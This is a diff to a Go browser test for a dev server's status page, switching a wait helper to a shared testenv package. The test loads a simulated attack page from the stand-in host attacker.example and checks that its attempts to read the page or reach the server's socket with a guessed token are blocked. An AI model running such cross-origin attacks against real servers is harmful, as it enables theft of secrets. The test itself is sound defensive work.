@@ -9,6 +9,7 @@ import (
 
 	"github.com/chromedp/chromedp"
 	"github.com/hotserve/hotserve/devserver"
+	"github.com/hotserve/hotserve/internal/testenv"
 )
 
 // statusSecret is in the settings of the victim hotserve below; no page
@@ -49,7 +50,7 @@ func TestBrowserStatusPageKeepsItsSecrets(t *testing.T) {
 	if err := chromedp.Do(status, chromedp.Navigate(victim.URL+"__hotserve/")); err != nil {
 		t.Fatal(err)
 	}
-	waitJS(t, status, `document.getElementById("settings").textContent.includes("API_TOKEN=…")`, 10*time.Second)
+	testenv.WaitJS(t, status, `document.getElementById("settings").textContent.includes("API_TOKEN=…")`, 10*time.Second)
 	if text := evalJS[string](t, status, `document.documentElement.outerHTML`); strings.Contains(text, statusSecret) {
 		t.Errorf("the status page shows the secret:\n%s", text)
 	}
@@ -62,7 +63,7 @@ func TestBrowserStatusPageKeepsItsSecrets(t *testing.T) {
 	if err := chromedp.Do(tab, chromedp.Navigate("http://attacker.example:"+evilPort+"/evil.html?a="+victim.addr)); err != nil {
 		t.Fatal(err)
 	}
-	waitJS(t, tab, `window.results !== undefined`, 30*time.Second)
+	testenv.WaitJS(t, tab, `window.results !== undefined`, 30*time.Second)
 	got := evalJS[map[string]string](t, tab, `window.results`)
 	want := map[string]string{"page": "blocked", "socket": "closed", "socketGuessedToken": "closed"}
 	for k, w := range want {
